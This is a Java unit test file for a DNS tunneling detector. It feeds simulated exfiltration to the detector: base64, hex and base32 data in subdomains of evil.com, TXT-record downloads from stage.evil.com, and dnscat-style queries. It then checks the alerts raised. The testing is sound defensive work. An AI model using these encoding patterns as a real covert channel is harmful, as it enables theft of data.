package org.geophone.score.internal.alert;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Random;
import org.geophone.api.event.EventSlot;
import org.geophone.api.metrics.Counters;
import org.geophone.score.internal.Findings;
import org.geophone.score.internal.layer.ScoreSettings;
import org.geophone.score.internal.Traffic;
import org.geophone.testkit.dns.MessageBuilder;
import org.geophone.testkit.dns.Slots;
import org.junit.jupiter.api.Test;

class TunnelTest {
    private static final String CLIENT = "10.1.2.3";

    private final Findings findings = new Findings();
    private final AccountLayer layer = new AccountLayer(ScoreSettings.defaults(4 << 20), new Counters());
    private final Traffic traffic = new Traffic(slot -> {
        layer.advance(slot.timeNanos, findings);
        layer.observe(slot, findings);
    });

    @Test
    void base64InSubdomainsAlertsBeforeTwoKilobytesAreGoneAndShowsThePayload() {
        StringBuilder file = new StringBuilder("id,first,last,card,exp,balance\n");
        Random random = new Random(3);
        while (file.length() < 4000) {
            file.append(random.nextInt(1_000_000_000)).append(",Ines,Garcia,").append(random.nextInt(1_000_000_000))
                    .append('\n');
        }
        String data = Traffic.base64(file.toString());
        int sent = 0;
        while (findings.all().isEmpty()) {
            traffic.missing(CLIENT, data.substring(sent / 3 * 4, sent / 3 * 4 + 60) + ".evil.com", 1);
            sent += 45;
            traffic.pass(Traffic.SECOND / 5);
            assertTrue(sent <= 2000, "no alert after " + sent + " bytes");
        }
        Findings.Finding alert = findings.all().get(0);
        assertTrue(alert.has("action", "opened"));
        assertTrue(alert.has("registered_domain", "evil.com"));
        assertTrue(alert.has("encoding", "base64"));
        assertTrue(alert.has("class", "exfiltration"));
        assertTrue(alert.document().contains("\"payload_head\":\"id,first,last,card,exp,balance\\\\n"),
                alert.document());
        assertTrue(alert.document().contains("\"ip\":[\"10.1.2.3\"]"), alert.document());
        assertTrue(alert.severity() >= 50);
    }

    @Test
    void hexAlertsBeforeTwoKilobytesAreGone() {
        assertTrue(sentUntilAlert("0123456789abcdef", 60, 30) <= 1000);
        assertTrue(findings.all().get(0).has("encoding", "hex"));
    }

    @Test
    void base32AlertsBeforeTwoKilobytesAreGone() {
        assertTrue(sentUntilAlert("abcdefghijklmnopqrstuvwxyz234567", 56, 35) <= 1000);
        assertTrue(findings.all().get(0).has("encoding", "base32"));
    }

    @Test
    void binaryLabelsAlertBeforeTwoKilobytesAreGone() {
        StringBuilder alphabet = new StringBuilder("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789");
        for (char c = 0xbc; c <= 0xfd; c++) {
            alphabet.append(c);
        }
        assertTrue(sentUntilAlert(alphabet.toString(), 63, 55) <= 1000);
        assertTrue(findings.all().get(0).has("encoding", "base128"));
    }

    private int sentUntilAlert(String alphabet, int characters, int bytes) {
        Random random = new Random(8);
        int sent = 0;
        while (findings.all().isEmpty() && sent < 5000) {
            traffic.missing(CLIENT, Traffic.text(random, alphabet, characters) + ".evil.com", 1);
            traffic.pass(Traffic.SECOND);
            sent += bytes;
        }
        return sent;
    }

    @Test
    void aSlowDripAboveTheLeakAlertsAfterDays() {
        Random random = new Random(8);
        int sent = 0;
        // ten bytes every ten minutes: 1440 a day, about three times the leak
        while (findings.all().isEmpty() && sent < 5000) {
            traffic.missing(CLIENT, Traffic.text(random, "abcdefghijklmnopqrstuvwxyz234567", 16) + ".evil.com", 1);
            traffic.pass(600 * Traffic.SECOND);
            sent += 10;
        }
        assertTrue(sent < 1500, "sent " + sent);
    }

    @Test
    void aDownloadInTextAnswersIsOne() {
        Random random = new Random(8);
        int received = 0;
        while (findings.all().isEmpty() && received < 10_000) {
            byte[] rdata = MessageBuilder.txt(Traffic.text(random, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijk0123456789+/",
                    240));
            traffic.answered(CLIENT, received / 180 + ".stage.evil.com", 16, rdata);
            received += 180;
            traffic.pass(Traffic.SECOND);
        }
        assertTrue(received <= 2200, "received " + received);
        assertTrue(findings.all().get(0).has("class", "download"));
        assertTrue(findings.all().get(0).has("direction", "down"));
    }

    @Test
    void severityRisesWithTheAmountAndNeverFallsUntilTheAlertCloses() {
        Random random = new Random(8);
        for (int i = 0; i < 500; i++) {
            traffic.missing(CLIENT, Traffic.text(random, "0123456789abcdef", 60) + ".evil.com", 1);
            traffic.pass(Traffic.SECOND);
        }
        traffic.pass(5 * 3600 * Traffic.SECOND);
        traffic.missing(CLIENT, "late.evil.com", 1);
        int last = 0;
        for (Findings.Finding finding : findings.all()) {
            assertTrue(finding.severity() >= last);
            last = finding.severity();
        }
        assertEquals(100, last);
        assertEquals(1, findings.of("opened").size());
        assertEquals(0, findings.of("closed").size());
        layer.advance(traffic.now() + 25 * 3600 * Traffic.SECOND, findings);
        assertEquals(1, findings.of("closed").size());
        assertEquals(100, findings.of("closed").get(0).severity());
    }

    @Test
    void aNewEpisodeIsANewAlert() {
        Random random = new Random(8);
        for (int episode = 0; episode < 2; episode++) {
            for (int i = 0; i < 60; i++) {
                traffic.missing(CLIENT, Traffic.text(random, "0123456789abcdef", 60) + ".evil.com", 1);
                traffic.pass(Traffic.SECOND);
            }
            traffic.pass(30 * 3600 * Traffic.SECOND);
            layer.advance(traffic.now(), findings);
        }
        assertEquals(2, findings.of("opened").size());
        assertEquals(2, findings.of("closed").size());
        assertFalse(id(findings.of("opened").get(0)).equals(id(findings.of("opened").get(1))));
        assertEquals(id(findings.of("opened").get(1)), id(findings.of("closed").get(1)));
    }

    private static String id(Findings.Finding finding) {
        int at = finding.document().indexOf("\"id\":\"", finding.document().indexOf("\"alert\":{"));
        return finding.document().substring(at + 6, at + 38);
    }

    @Test
    void atTheEndOpenAlertsStayOpenWithTheirFinalFigures() {
        Random random = new Random(8);
        for (int i = 0; i < 40; i++) {
            traffic.missing(CLIENT, Traffic.text(random, "0123456789abcdef", 60) + ".evil.com", 1);
        }
        int before = findings.all().size();
        layer.finish(findings);
        assertEquals(before + 1, findings.all().size());
        assertTrue(findings.all().get(before).has("action", "updated"));
        assertTrue(findings.all().get(before).document().contains("\"queries\":40"));
        layer.finish(findings);
        assertEquals(before + 1, findings.all().size());
    }

    @Test
    void aTransferOverManyDomainsIsOneAlertOfItsClient() {
        Random random = new Random(8);
        for (int i = 0; i < 400 && findings.all().isEmpty(); i++) {
            traffic.missing(CLIENT, Traffic.text(random, "0123456789abcdef", 40) + ".evil" + (char) ('a' + i % 25)
                    + ".com", 1);
            traffic.pass(Traffic.SECOND);
        }
        Findings.Finding alert = findings.all().get(0);
        assertTrue(alert.has("name", "information-over-many-domains"));
        assertTrue(alert.document().contains("\"registered_domain\":[\"evil"), alert.document());
        for (int i = 0; i < 2000; i++) {
            traffic.missing(CLIENT, Traffic.text(random, "0123456789abcdef", 40) + ".evil" + (char) ('a' + i % 25)
                    + ".com", 1);
        }
        assertEquals(1, findings.of("opened").size(), "its domains open no alerts of their own");
    }

    @Test
    void aTransferThatTenClientsShareAlertsForTheDomain() {
        Random random = new Random(8);
        for (int i = 0; i < 3000 && findings.all().isEmpty(); i++) {
            traffic.missing("10.1.2." + (10 + i % 10), Traffic.text(random, "0123456789abcdef", 48) + ".evil.com", 1);
            traffic.pass(Traffic.SECOND);
        }
        assertTrue(findings.all().get(0).has("name", "information-to-one-domain-from-several-clients"),
                findings.all().get(0).document());
    }

    @Test
    void namesWithoutADelegatedTldShareOneAccount() {
        Random random = new Random(8);
        for (int i = 0; i < 200 && findings.all().isEmpty(); i++) {
            EventSlot slot = Slots.query(traffic.now(), CLIENT, Traffic.RESOLVER,
                    "dnscat." + Traffic.text(random, "0123456789abcdef", 60), 16);
            slot.tldDelegated = false;
            layer.observe(slot, findings);
            traffic.pass(Traffic.SECOND);
        }
        Findings.Finding alert = findings.all().get(0);
        assertTrue(alert.has("registered_domain", "(none)"), alert.document());
        assertTrue(alert.has("name", "dnscat2"), alert.document());
    }

    @Test
    void theSlotSaysWhatTheMessageAddedAndWhenItBecomesEvidence() {
        Random random = new Random(8);
        EventSlot first = traffic.query(CLIENT, Traffic.text(random, "0123456789abcdef", 60) + ".evil.com", 1);
        assertEquals(240, first.infoBits, 0.1);
        assertEquals(0, first.evidenceKey);
        EventSlot repeat = traffic.query(CLIENT, "www.good.com", 1);
        assertTrue(traffic.query(CLIENT, "www.good.com", 1).infoBits == 0);
        assertEquals(0, repeat.evidenceKey);
        EventSlot last = first;
        for (int i = 0; i < 10; i++) {
            last = traffic.query(CLIENT, Traffic.text(random, "0123456789abcdef", 60) + ".evil.com", 1);
        }
        assertTrue(last.evidenceKey != 0);
    }
}
